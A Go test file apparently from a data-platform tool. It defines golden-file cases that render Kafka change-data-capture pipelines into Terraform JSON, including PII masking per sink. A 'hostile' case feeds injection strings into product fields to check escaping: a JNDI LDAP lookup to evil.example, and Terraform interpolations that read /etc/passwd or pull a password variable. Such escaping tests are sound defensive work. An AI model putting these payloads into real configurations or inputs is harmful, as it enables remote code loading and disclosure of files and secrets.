package render

import (
	"github.com/meshplane/meshplane/server/spec"
)

// testCase is a product rendered to a golden file under
// terraform/testdata/<name>/main.tf.json.golden.
type testCase struct {
	name string
	in   Input
	// hostile cases carry strings no validated product has; the others must
	// pass spec validation so the golden files show real products.
	hostile bool
}

func sandboxEnv() Environment {
	return Environment{
		Name:              "sandbox",
		KafkaBootstrap:    []string{"127.0.0.1:9092"},
		ConnectURL:        "http://127.0.0.1:8083",
		ReplicationFactor: 1,
	}
}

func productionEnv() Environment {
	return Environment{
		Name:                  "production",
		KafkaBootstrap:        []string{"b-1.kafka.internal:9096", "b-2.kafka.internal:9096", "b-3.kafka.internal:9096"},
		KafkaSASLMechanism:    SASLScramSHA512,
		KafkaUsername:         "meshplane",
		KafkaTLS:              true,
		ConnectURL:            "https://connect.internal:8083",
		ConnectUsername:       "meshplane",
		ReplicationFactor:     3,
		ConnectKafkaBootstrap: []string{"kafka.internal:9093"},
		Backend:               Backend{Kind: BackendPostgres},
	}
}

func normalized(domain, product string, p spec.Product) spec.Product {
	p.Normalize(domain, product)
	return p
}

func cases() []testCase {
	return []testCase{
		{name: "postgres-bigquery", in: Input{
			Domain: "sales", Product: "orders", Env: sandboxEnv(),
			Spec: normalized("sales", "orders", spec.Product{
				Description: "Orders as placed in the web shop.",
				Owner:       "sales-team@example.com",
				Source: spec.Source{
					Kind: spec.SourcePostgres, Host: "orders-db.internal", Port: 5432, Database: "shop",
					Tables: []string{"public.orders"}, Username: "debezium", SecretRef: "env:SALES__ORDERS_DB_PASSWORD",
				},
				Ports: []spec.OutputPort{{
					Name: "orders", Partitions: 6, CleanupPolicy: spec.CleanupDelete,
					Fields: []spec.Field{
						{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone},
						{Name: "customer_id", Type: spec.TypeInt64, Classification: spec.ClassInternal},
						{Name: "amount", Type: spec.TypeDecimal, Classification: spec.ClassInternal},
						{Name: "placed_at", Type: spec.TypeTimestamp, Classification: spec.ClassNone},
					},
				}},
				Sinks: []spec.Sink{{
					Name:     "warehouse",
					BigQuery: &spec.BigQuerySink{Project: "acme-analytics", Dataset: "sales_orders", CredentialsRef: "vault:secret/data/sales/gcp-bigquery:key"},
				}},
			}),
		}},
		{name: "mysql-s3-jdbc", in: Input{
			Domain: "inventory", Product: "stock", Env: productionEnv(),
			Spec: normalized("inventory", "stock", spec.Product{
				Description: "Stock levels per warehouse.",
				Owner:       "inventory-team@example.com",
				Source: spec.Source{
					Kind: spec.SourceMySQL, Host: "stock-db.internal", Port: 3306, Database: "warehouse",
					Tables: []string{"warehouse.stock_levels"}, Username: "debezium", SecretRef: "file:/etc/meshplane/secrets/inventory/stock.properties:password",
				},
				Ports: []spec.OutputPort{{
					Name: "levels", MajorVersion: 2, Partitions: 3, CleanupPolicy: spec.CleanupCompact,
					Fields: []spec.Field{
						{Name: "sku", Type: spec.TypeString, Classification: spec.ClassNone},
						{Name: "warehouse_id", Type: spec.TypeInt32, Classification: spec.ClassNone},
						{Name: "quantity", Type: spec.TypeInt64, Classification: spec.ClassNone},
					},
				}},
				Sinks: []spec.Sink{
					{Name: "lake", S3: &spec.S3Sink{
						Bucket: "acme-lake", Region: "eu-west-1", Prefix: "cdc/inventory/", Format: "parquet",
						CredentialsRef: "vault:secret/data/inventory/aws-lake:key",
					}},
					{Name: "reporting", JDBC: &spec.JDBCSink{
						URL: "jdbc:postgresql://reporting-db.internal:5432/reporting", Username: "loader",
						SecretRef: "vault:secret/data/inventory/reporting-db:password", InsertMode: "upsert",
						PrimaryKeyFields: []string{"sku", "warehouse_id"}, DeleteEnabled: true,
					}},
				},
			}),
		}},
		{name: "multi-port", in: Input{
			Domain: "crm", Product: "customers", Env: sandboxEnv(),
			Spec: normalized("crm", "customers", spec.Product{
				Description: "Customers, their addresses and orders.",
				Owner:       "crm-team@example.com",
				Source: spec.Source{
					Kind: spec.SourcePostgres, Host: "10.0.4.12", Port: 5433, Database: "crm",
					Tables: []string{"public.customers", "public.addresses", "sales.orders"}, Username: "cdc", SecretRef: "env:CRM__DB_PASSWORD",
				},
				Ports: []spec.OutputPort{
					{Name: "customers", Table: "public.customers", Partitions: 12, CleanupPolicy: spec.CleanupCompact,
						Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone}}},
					{Name: "addresses", Table: "public.addresses", Partitions: 6, RetentionMs: -1, CleanupPolicy: spec.CleanupCompactDelete,
						Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone}}},
					{Name: "orders", Table: "sales.orders", MajorVersion: 3, RetentionMs: 30 * 24 * 3600 * 1000,
						Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone}}},
				},
				Sinks: []spec.Sink{
					{Name: "search", Ports: []string{"customers", "addresses"}, Elasticsearch: &spec.ElasticsearchSink{
						URL: "https://search.internal:9200", Username: "indexer", SecretRef: "env:CRM__SEARCH_PASSWORD", IndexPrefix: "crm",
					}},
					{Name: "archive", Ports: []string{"orders"}, S3: &spec.S3Sink{
						Bucket: "acme-archive", Region: "us-east-1", Format: "json", FlushSize: 5000, RotateIntervalMs: 3_600_000,
					}},
				},
			}),
		}},
		{name: "pii", in: Input{
			Domain: "identity", Product: "people", Env: sandboxEnv(),
			Spec: normalized("identity", "people", spec.Product{
				Description: "People known to the identity service.",
				Owner:       "identity-team@example.com",
				Source: spec.Source{
					Kind: spec.SourcePostgres, Host: "people-db.internal", Port: 5432, Database: "identity",
					Tables: []string{"public.people"}, Username: "debezium", SecretRef: "vault:secret/data/identity/people-db:password",
				},
				Ports: []spec.OutputPort{{
					Name: "people", Partitions: 3,
					Fields: []spec.Field{
						{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone},
						{Name: "email", Type: spec.TypeString, Classification: spec.ClassPII, Tags: []string{"email"}},
						{Name: "phone", Type: spec.TypeString, Nullable: true, Classification: spec.ClassPII},
						{Name: "postcode", Type: spec.TypeString, Nullable: true, Classification: spec.ClassInternal},
						{Name: "national_id", Type: spec.TypeString, Nullable: true, Classification: spec.ClassSensitive},
					},
				}},
				Sinks: []spec.Sink{{
					Name: "directory",
					JDBC: &spec.JDBCSink{URL: "jdbc:mysql://directory-db.internal:3306/directory", Username: "writer",
						SecretRef: "env:IDENTITY__DIRECTORY_DB_PASSWORD", InsertMode: "upsert", DeleteEnabled: true},
				}},
			}),
			ConnectorConfig: map[string]map[string]string{
				"identity.people.source": {
					"column.mask.hash.SHA-256.with.salt.CzQMA0cB5K": "public\\.people\\.email",
					"column.mask.with.6.chars":                      "public\\.people\\.phone",
					"column.truncate.to.3.chars":                    "public\\.people\\.postcode",
					"column.exclude.list":                           "public\\.people\\.national_id",
				},
			},
		}},
		// Policy decides per sink: the requester's e-mail sits hashed in the
		// topic but must not reach the search index, the phone number is
		// blanked there, the free-text body stays out of the warehouse, and
		// the reporting replica gets neither the body nor the phone number.
		{name: "sink-masks", in: Input{
			Domain: "support", Product: "tickets", Env: sandboxEnv(),
			Spec: normalized("support", "tickets", spec.Product{
				Description: "Support tickets as opened by customers.",
				Owner:       "support-team@example.com",
				Source: spec.Source{
					Kind: spec.SourcePostgres, Host: "helpdesk-db.internal", Port: 5432, Database: "helpdesk",
					Tables: []string{"public.tickets"}, Username: "debezium", SecretRef: "env:SUPPORT__HELPDESK_DB_PASSWORD",
				},
				Ports: []spec.OutputPort{{
					Name: "tickets", Partitions: 3,
					Fields: []spec.Field{
						{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone},
						{Name: "subject", Type: spec.TypeString, Classification: spec.ClassInternal},
						{Name: "body", Type: spec.TypeString, Classification: spec.ClassInternal},
						{Name: "requester_email", Type: spec.TypeString, Classification: spec.ClassPII, Tags: []string{"email"}},
						{Name: "requester_phone", Type: spec.TypeString, Nullable: true, Classification: spec.ClassPII},
						{Name: "opened_at", Type: spec.TypeTimestamp, Classification: spec.ClassNone},
					},
				}},
				Sinks: []spec.Sink{
					{Name: "search", Elasticsearch: &spec.ElasticsearchSink{
						URL: "https://search.internal:9200", Username: "indexer", SecretRef: "env:SUPPORT__SEARCH_PASSWORD", IndexPrefix: "support",
					}},
					{Name: "warehouse", BigQuery: &spec.BigQuerySink{
						Project: "acme-analytics", Dataset: "support_tickets", CredentialsRef: "vault:secret/data/support/gcp-bigquery:key",
					}},
					{Name: "replica", JDBC: &spec.JDBCSink{
						URL: "jdbc:postgresql://reporting-db.internal:5432/support", Username: "loader",
						SecretRef: "env:SUPPORT__REPLICA_DB_PASSWORD", InsertMode: "upsert", DeleteEnabled: true,
					}},
				},
			}),
			ConnectorConfig: map[string]map[string]string{
				"support.tickets.source": {
					"column.mask.hash.v2.SHA-256.with.salt.9f2c4e1a7b3d5f60": "public\\.tickets\\.requester_email",
				},
			},
			SinkMasks: map[string]FieldMasks{
				"search":    {Drop: []string{"requester_email"}, Mask: []string{"requester_phone"}},
				"warehouse": {Drop: []string{"body"}},
				"replica":   {Drop: []string{"body"}, Mask: []string{"requester_phone"}},
			},
		}},
		{name: "hostile", hostile: true, in: hostileInput()},
		// Tests pick the earlier cases by index: new ones go last.
		{name: "grants", in: grantsCase()},
	}
}

// Strings an attacker or a careless user might get into a product. Terraform
// would interpolate ${…} and run %{…} directives if they reached it unescaped.
const (
	jndi      = "${jndi:ldap://evil.example/a}"
	directive = "%{ if true }x%{ endif }"
)

func hostileInput() Input {
	env := sandboxEnv()
	env.KafkaSASLMechanism = SASLPlain
	env.KafkaUsername = "svc\"${var.kafka_password}"
	env.ConnectUsername = "${file(\"/etc/passwd\")}"
	env.Backend.Path = "state/${path.module}.tfstate"
	return Input{
		Domain: "risky", Product: "input", Env: env,
		Spec: normalized("risky", "input", spec.Product{
			Description: "ignore " + jndi + " \"quoted\"\nnew line " + directive,
			Owner:       "x@example.com",
			Labels:      map[string]string{"a": "${b}"},
			Source: spec.Source{
				Kind: spec.SourcePostgres, Host: "db" + jndi + "%{x}", Port: 5432, Database: "d\"b" + jndi,
				Tables: []string{"public.t$x"}, Username: "u\n" + jndi + directive, SecretRef: "env:DB_PASSWORD",
			},
			Ports: []spec.OutputPort{{
				Name: "events", Description: jndi, Partitions: 1,
				Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Description: directive, Classification: spec.ClassNone}},
			}},
			Sinks: []spec.Sink{{
				Name: "docs",
				Elasticsearch: &spec.ElasticsearchSink{
					URL: "https://es.example/" + jndi, Username: "u%{x}", SecretRef: "env:ES_PASSWORD",
				},
			}},
		}),
		ConnectorConfig: map[string]map[string]string{
			"risky.input.source": {
				"column.mask.hash.SHA-256.with.salt." + jndi: "v\"" + jndi + "\n" + directive,
				"already.escaped":    "$${x} %%{y} $$ %% \\${z}",
				"provider.reference": "${vault:secret/salt:value}",
			},
		},
	}
}
